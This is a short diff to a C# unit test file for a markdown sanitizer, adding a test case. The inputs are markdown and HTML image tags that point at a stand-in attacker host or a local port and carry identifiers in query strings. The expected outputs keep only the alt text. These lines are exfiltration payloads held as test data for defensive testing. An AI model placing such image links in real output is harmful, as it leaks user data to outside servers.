@@ -11,6 +11,7 @@ public sealed class SafeMarkdownTests
 
     [Theory]
     [InlineData("![status](http://attacker.example/leak?d=DR-1023)", "status")]
+    [InlineData("Here you are ![status](http://127.0.0.1:4711/leak.png?d=DR-1042) <img src=\"http://127.0.0.1:4711/x.png\"> all done.", "Here you are status  all done.")]
     [InlineData("![](http://attacker.example/x.png \"title\")", "")]
     [InlineData("![logo][1]\n\n[1]: http://attacker.example/logo.png", "logo")]
     [InlineData("[![badge](http://attacker.example/b.svg)](http://attacker.example/)", "badge")]
